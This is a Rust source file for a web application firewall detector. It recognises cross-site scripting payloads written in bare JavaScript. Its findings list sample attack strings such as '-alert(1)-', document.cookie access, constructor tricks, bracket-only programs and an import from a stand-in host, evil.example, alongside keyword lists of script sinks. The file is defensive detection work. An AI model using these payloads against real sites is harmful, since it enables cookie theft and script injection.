//! JavaScript without markup: a value that breaks out of a string of a script, or is run as
//! one. Read as calls and members of the objects that browsers have.

use super::Detector;
use super::macros::findings;
use super::text::{Dictionary, Text, is_space, is_word};
use crate::waf::signal::Signals;
use crate::waf::view::{Places, View};
use std::sync::LazyLock;

findings! {
    class Xss, tags &["javascript"];
    SINK_CALL: "xss-sink-call", STRONG, "a function is called that shows, runs or sends something",
        ["'-alert(1)-'", "eval(atob('YQ'))", "(confirm)(1)", "alert.call(null,1)", "prompt`1`"],
        ["an alert, lively actor", "the alert (red) is on", "medieval(12)"];
    PAGE_OBJECT: "xss-page-object", STRONG, "a member of the page that scripts steal or change",
        ["document.cookie", "(document/**/)['cookie']", "window.location", "self['alert']"],
        ["the document. Cookies are good", "window.open hours"];
    PAGE_QUERY: "xss-page-query", MEDIUM, "a query of the page's elements", [], [];
    PAGE_CHANGE: "xss-page-change", MEDIUM, "a change of the page", [], [];
    CONSTRUCTOR: "xss-constructor", STRONG, "code from a string by way of a constructor",
        ["x.constructor('alert(1)')()", "[].constructor.constructor('x')()"], ["the constructor (new)"];
    SYMBOLS: "xss-symbols-only", STRONG, "a program of brackets alone",
        ["(![]+[])[+!+[]]", "+!![]"], ["[](x)", "- [ ] todo"];
    MODULE: "xss-module-import", STRONG, "a module of scripts is imported",
        ["import { a } from './b.js'", "import * as x from \"//evil.example/x.js\""],
        ["import {tea} from China", "we import * from abroad"];
    INDIRECT: "xss-indirect-call", STRONG, "a function of arrays or strings calls another",
        ["[].map.call`${eval}`", "[1].find(alert)"], ["map.call"];
}

pub(super) static DETECTOR: Detector = Detector {
    findings: ALL,
    places: Places::VALUES,
    bytes: b"",
    literals: &[
        "alert",
        "confirm",
        "prompt",
        "eval",
        "document",
        "window",
        "settimeout",
        "setinterval",
        "function",
        "constructor",
        "fromcharcode",
        "innerhtml",
        "outerhtml",
        "location",
        "atob",
        "btoa",
        "msgbox",
        "execscript",
        "self[",
        "top[",
        "parent[",
        "this[",
        "frames[",
        "globalthis",
        "xmlhttprequest",
        "![]",
        "[][",
        "getscript",
        "fetch(",
        "sendbeacon",
        "importscripts",
        "new image",
        "new(image",
        "localstorage",
        "sessionstorage",
        ".call",
        ".apply",
        "textcontent",
        "].",
        "] .",
        "[[",
        "reflect.",
        "import(",
        "import {",
        "import{",
        "import *",
        "import*",
    ],
    cost: 3,
    run,
};

fn run(view: &View<'_>, signals: &mut Signals) {
    let text = Text(view.bytes);
    symbols_only(text, signals);
    let mut at = 0;
    while at < text.len() {
        let byte = text.at(at);
        if byte == b'[' {
            array(text, at, signals);
            at = at.saturating_add(1);
        } else if is_word(byte) {
            let end = text.word_end(at);
            word(text, at, end, signals);
            at = end;
        } else {
            at = at.saturating_add(1);
        }
    }
}

/// What a word may be the head of.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Head {
    /// Called with anything, it is a finding.
    Sink,
    /// An English word too: only called without a space before the parenthesis.
    Speaking,
    /// `document`.
    Document,
    /// `window`, `self`: objects by whose members everything is reached.
    Global,
    Constructor,
    /// `innerHTML` and other members that are assigned.
    Change,
    /// `localStorage`, `XMLHttpRequest`.
    Interface,
}

static HEADS: LazyLock<Dictionary<Head>> = LazyLock::new(|| {
    Dictionary::new([
        ("alert", Head::Speaking),
        ("atob", Head::Sink),
        ("btoa", Head::Sink),
        ("confirm", Head::Speaking),
        ("constructor", Head::Constructor),
        ("document", Head::Document),
        ("eval", Head::Speaking),
        ("execscript", Head::Sink),
        ("fetch", Head::Speaking),
        ("frames", Head::Global),
        ("fromcharcode", Head::Sink),
        ("function", Head::Constructor),
        ("getscript", Head::Sink),
        ("globalthis", Head::Global),
        ("import", Head::Speaking),
        ("importscripts", Head::Sink),
        ("innerhtml", Head::Change),
        ("localstorage", Head::Interface),
        ("location", Head::Global),
        ("msgbox", Head::Sink),
        ("outerhtml", Head::Change),
        ("parent", Head::Global),
        ("prompt", Head::Speaking),
        ("reflect", Head::Interface),
        ("self", Head::Global),
        ("sendbeacon", Head::Sink),
        ("sessionstorage", Head::Interface),
        ("setinterval", Head::Sink),
        ("settimeout", Head::Sink),
        ("textcontent", Head::Change),
        ("this", Head::Global),
        ("top", Head::Global),
        ("window", Head::Global),
        ("xmlhttprequest", Head::Interface),
    ])
});

fn head(word: &[u8]) -> Option<Head> {
    HEADS.get(word)
}

/// What it costs to look at what stands around a word that heads a call, in steps.
const STEPS_OF_HEAD: usize = 192;

fn word(text: Text<'_>, start: usize, end: usize, signals: &mut Signals) {
    let Some(head) = head(text.slice(start, end)) else {
        return;
    };
    if !signals.spend(STEPS_OF_HEAD) {
        return;
    }
    let after = skip_filler(text, end);
    if text.has(start, b"import") && imports_module(text, after) {
        signals.push(&MODULE, start..after);
    }
    let next = text.at(after);
    let adjacent = after == end;
    match head {
        Head::Sink if matches!(next, b'(' | b'`') => signals.push(&SINK_CALL, start..after),
        Head::Speaking => speaking(text, start, end, signals),
        Head::Document => document(text, start, after, signals),
        Head::Global => global(text, start, end, signals),
        Head::Constructor => constructor(text, start, end, signals),
        Head::Change if next == b'=' && text.at(after.saturating_add(1)) != b'=' => {
            let finding = if text.has(start, b"text") {
                &PAGE_CHANGE
            } else {
                &PAGE_OBJECT
            };
            signals.push(finding, start..after);
        }
        Head::Interface
            if adjacent
                && matches!(next, b'.' | b'[' | b'(')
                && text.at(after.saturating_add(1)).is_ascii_alphabetic() | (next == b'(') =>
        {
            signals.push(&PAGE_OBJECT, start..after);
        }
        _ => {}
    }
}

/// `{ a, b } from './c.js'`, `* as a from "b"`: what stands behind `import`.
fn imports_module(text: Text<'_>, start: usize) -> bool {
    let names = match text.at(start) {
        b'{' => text
            .skip_some(start, 160, |byte| byte != b'}')
            .saturating_add(1),
        b'*' => text.skip_some(start, 64, |byte| {
            is_word(byte) || is_space(byte) || byte == b'*'
        }),
        _ => return false,
    };
    let from = if text.at(start) == b'{' {
        text.skip_space(names)
    } else {
        text.back_space(names).saturating_sub(4)
    };
    let quote = text.at(text.skip_space(from.saturating_add(4)));
    text.has(from, b"from") && matches!(quote, b'\'' | b'"' | b'`')
}

/// `alert(1)`, `(alert)(1)`, `alert.call(...)`, `` alert`1` ``, `[alert][0](1)`, `x=alert`.
fn speaking(text: Text<'_>, start: usize, end: usize, signals: &mut Signals) {
    let before = text.at(text.back_space(start).saturating_sub(1));
    let joined = start > 0 && text.at(start.saturating_sub(1)) == b'.';
    let mut after = skip_comments(text, end);
    let mut closed = false;
    if text.at(after) == b'?' && text.at(after.saturating_add(1)) == b'.' {
        after = after.saturating_add(2);
    }
    while matches!(text.at(after), b')' | b']') && after < end.saturating_add(8) {
        closed = true;
        after = skip_filler(text, after.saturating_add(1));
    }
    let inner = text.at(text.skip_space(text.skip_space(end).saturating_add(1)));
    let spaced = text.at(text.skip_space(end)) == b'('
        && matches!(inner, b')' | b'\'' | b'"' | b'`' | b'0'..=b'9');
    let shown = is_quoted_in_prose(text, text.skip_space(end));
    if spaced && !shown && !text.has(start, b"fetch") && start == 0 {
        signals.push(&SINK_CALL, start..end);
        return;
    }
    let called = matches!(text.at(after), b'(' | b'`')
        && (after == end || closed || text.at(end) == b'/' || start == 0);
    let member = text.at(after) == b'.'
        && [
            &b"call"[..],
            b"apply",
            b"bind",
            b"valueof",
            b"name",
            b"constructor",
        ]
        .iter()
        .any(|name| text.has(skip_filler(text, after.saturating_add(1)), name));
    let assigned = before == b'='
        && text.at(text.back_space(start).saturating_sub(2)) != b'='
        && matches!(
            text.at(skip_filler(text, end)),
            0 | b';' | b'}' | b'<' | b','
        );
    let assigned = assigned
        && matches!(
            text.slice(start, end),
            b"alert" | b"eval" | b"prompt" | b"confirm"
        )
        && start > 2;
    let remote = joined
        && text.at(start.saturating_sub(2)).is_ascii_alphanumeric()
        && !text.has(start, b"eval")
        && !text.has(start, b"alert");
    // `r = await fetch(url)`: code that is shown to somebody, no expression that breaks out.
    let awaited = text.has(start.saturating_sub(6), b"await ") && start >= 6;
    let quoted = called && is_quoted_in_prose(text, after);
    if (called && !remote && !awaited && !quoted) || member || assigned {
        signals.push(&SINK_CALL, start..after);
    }
}

/// `alert('fire') is what he typed`: words follow that no operator of JavaScript is.
fn is_quoted_in_prose(text: Text<'_>, open: usize) -> bool {
    let argument = text.slice(open, open.saturating_add(80));
    let Some(close) = memchr::memchr(b')', argument) else {
        return false;
    };
    let end = open.saturating_add(close).saturating_add(1);
    let word = text.skip_some(end, 2, |byte| byte == b' ');
    let word_end = text.skip_some(word, 16, |byte| byte.is_ascii_lowercase());
    let name = text.slice(word, word_end);
    let second = text.skip_some(word_end, 2, |byte| byte == b' ');
    word > end
        && second > word_end
        && text.at(second).is_ascii_lowercase()
        && !matches!(
            name,
            b"" | b"in" | b"instanceof" | b"or" | b"and" | b"if" | b"of"
        )
}

/// `document.cookie`, `document['cookie']`, `(document)/**/.domain`.
fn document(text: Text<'_>, start: usize, after: usize, signals: &mut Signals) {
    const STOLEN: &[&[u8]] = &[
        b"cookie",
        b"domain",
        b"location",
        b"write",
        b"body",
        b"forms",
        b"createelement",
        b"head",
        b"documentelement",
        b"url",
        b"referrer",
        b"scripts",
        b"open",
        b"default",
        b"implementation",
        b"all",
        b"append",
        b"execcommand",
        b"title",
        b"links",
        b"images",
        b"firstchild",
    ];
    let mut at = after;
    while text.at(at) == b')' && at < after.saturating_add(4) {
        at = skip_filler(text, at.saturating_add(1));
    }
    let dotted = text.at(at) == b'.' || text.has(at, b"?.");
    let spaced = at > start.saturating_add(8);
    let name = skip_filler(text, text.skip(at, |byte| matches!(byte, b'.' | b'?')));
    let name_end = text.word_end(name);
    let member = text.slice(name, name_end);
    let known = STOLEN.iter().any(|known| {
        member.len() >= known.len()
            && member
                .get(..known.len())
                .is_some_and(|head| head.eq_ignore_ascii_case(known))
    });
    // `the document. Title` is prose: members are tight, or commented, or begin in lower case.
    let tight = name == at.saturating_add(1) && !spaced;
    let lower = member.first().is_some_and(u8::is_ascii_lowercase);
    if dotted
        && known
        && lower
        && (tight
            || text.at(after.saturating_sub(1)) == b'/'
            || text.at(start.saturating_sub(1)) == b'('
            || spaced)
    {
        signals.push(&PAGE_OBJECT, start..name_end);
    } else if dotted && tight && (text.has(name, b"query") || text.has(name, b"getelement")) {
        signals.push(&PAGE_QUERY, start..name_end);
    } else if text.at(at) == b'['
        && matches!(text.at(at.saturating_add(1)), b'\'' | b'"' | b'`' | b'(')
    {
        signals.push(&PAGE_OBJECT, start..at);
    }
}

/// `window.location`, `self['alert']`, `top[8680439..toString(30)](1)`, `location='...'`.
fn global(text: Text<'_>, start: usize, end: usize, signals: &mut Signals) {
    const MEMBERS: &[&[u8]] = &[
        b"location",
        b"name",
        b"open(",
        b"alert",
        b"eval",
        b"document",
        b"opener",
        b"onerror",
        b"parent",
        b"top",
        b"frames",
        b"self",
        b"settimeout",
        b"constructor",
    ];
    let word = text.slice(start, end);
    let next = text.at(end);
    let member = end.saturating_add(1);
    let member_of =
        start > 0 && matches!(text.at(start.saturating_sub(1)), b'.' | b'-' | b'_' | b'@');
    if member_of && !word.eq_ignore_ascii_case(b"location") {
        return;
    }
    let location = word.eq_ignore_ascii_case(b"location");
    let strict = location
        || word.eq_ignore_ascii_case(b"this")
        || word.eq_ignore_ascii_case(b"top")
        || word.eq_ignore_ascii_case(b"parent");
    let indexed = next == b'['
        && matches!(text.at(member), b'\'' | b'"' | b'`' | b'(' | b'/' | b'[' | b'!' | b'+' | b'a'..=b'z' | b'0'..=b'9');
    let quoted = matches!(text.at(member), b'\'' | b'"' | b'`' | b'(' | b'/');
    let dotted = next == b'.'
        && MEMBERS
            .iter()
            .any(|name| text.slice(member, member.saturating_add(name.len())) == *name)
        && !location;
    let assigned = location
        && (is_assigned(text, end)
            || (next == b'.'
                && (text.has(member, b"href=")
                    || text.has(member, b"replace(")
                    || text.has(member, b"assign(")
                    || text.has(member, b"hash"))));
    if (indexed && (!strict || quoted))
        || (dotted && (!strict || text.has(member, b"constructor")))
        || assigned
    {
        signals.push(&PAGE_OBJECT, start..member);
    }
}

/// `location='...'`: assigned a string, or a call.
fn is_assigned(text: Text<'_>, end: usize) -> bool {
    let equals = text.skip_space(end);
    let value = text.skip_space(equals.saturating_add(1));
    text.at(equals) == b'='
        && matches!(text.at(value), b'\'' | b'"' | b'`' | b'n')
        && (text.at(value) != b'n' || text.has(value, b"name"))
}

/// `.constructor('...')`, `.constructor.constructor`, `Function('...')`, `new Function(`.
fn constructor(text: Text<'_>, start: usize, end: usize, signals: &mut Signals) {
    let word = text.slice(start, end);
    let member = start > 0 && text.at(start.saturating_sub(1)) == b'.';
    let next = text.at(end);
    let called = next == b'(' || next == b'`';
    let named = word == b"Function" && called;
    let repeated = next == b'.'
        && (text.has(end.saturating_add(1), b"constructor")
            || text.has(end.saturating_add(1), b"prototype"));
    let indexed = word.eq_ignore_ascii_case(b"constructor")
        && matches!(text.at(start.saturating_sub(1)), b'\'' | b'"')
        && matches!(next, b'\'' | b'"')
        && text.at(end.saturating_add(1)) == b']';
    let constructed = word.eq_ignore_ascii_case(b"constructor")
        && member
        && called
        && matches!(text.at(end.saturating_add(1)), b'\'' | b'"' | b'`');
    if named || constructed || (repeated && (member || start == 0)) || indexed {
        signals.push(&CONSTRUCTOR, start..end);
    }
}

/// `[].map.call`, `[1].find(alert)`, `[[alert]]`.
fn array(text: Text<'_>, start: usize, signals: &mut Signals) {
    let inner = text.skip(start.saturating_add(1), |byte| {
        is_space(byte) || byte.is_ascii_digit() || byte == b','
    });
    if text.at(inner) != b']' {
        return;
    }
    let dot = skip_filler(text, inner.saturating_add(1));
    if text.at(dot) != b'.' {
        return;
    }
    let name = skip_filler(text, dot.saturating_add(1));
    let name_end = text.word_end(name);
    const METHODS: &[&[u8]] = &[
        b"map",
        b"find",
        b"sort",
        b"filter",
        b"some",
        b"every",
        b"reduce",
        b"foreach",
        b"findindex",
        b"constructor",
        b"join",
        b"concat",
        b"at",
        b"pop",
    ];
    let method = text.slice(name, name_end);
    let known = METHODS
        .iter()
        .any(|known| method.eq_ignore_ascii_case(known));
    let after = skip_filler(text, name_end);
    if known && matches!(text.at(after), b'.' | b'(' | b'`' | b'[') {
        signals.push(&INDIRECT, start..name_end);
    }
}

/// Programs of `[]()!+` alone: enough to write any script.
fn symbols_only(text: Text<'_>, signals: &mut Signals) {
    let mut start = 0;
    let (mut symbols, mut empty, mut negated) = (0_usize, 0_usize, 0_usize);
    for (at, &byte) in text.0.iter().enumerate() {
        if matches!(byte, b'[' | b']' | b'(' | b')' | b'!' | b'+') {
            symbols = symbols.saturating_add(1);
            let next = text.at(at.saturating_add(1));
            empty = empty.saturating_add(usize::from(byte == b'[' && next == b']'));
            negated = negated.saturating_add(usize::from(
                byte == b'!' && matches!(next, b'[' | b'!' | b'+'),
            ));
        } else if !is_space(byte) {
            (symbols, empty, negated) = (0, 0, 0);
            start = at.saturating_add(1);
        }
        if empty > 0 && negated > 0 && symbols > 4
            || (empty > 2 && symbols > 8 && negated + empty > 4)
        {
            signals.push(&SYMBOLS, start..at);
            return;
        }
    }
}

/// Past white space and comments.
fn skip_filler(text: Text<'_>, start: usize) -> usize {
    let mut at = text.skip_space(start);
    // A handful of comments is read; a script with more of them is caught by something else.
    for _ in 0..4 {
        let after = skip_comments(text, at);
        if after == at {
            break;
        }
        at = text.skip_space(after);
    }
    at
}

/// Past one comment of up to 64 bytes: longer ones are not looked into, so that many openings
/// cost little each.
fn skip_comments(text: Text<'_>, start: usize) -> usize {
    if !text.has(start, b"/*") {
        return start;
    }
    let body = text.slice(start.saturating_add(2), start.saturating_add(66));
    match memchr::memmem::find(body, b"*/") {
        Some(length) => start.saturating_add(length).saturating_add(4),
        None => start,
    }
}
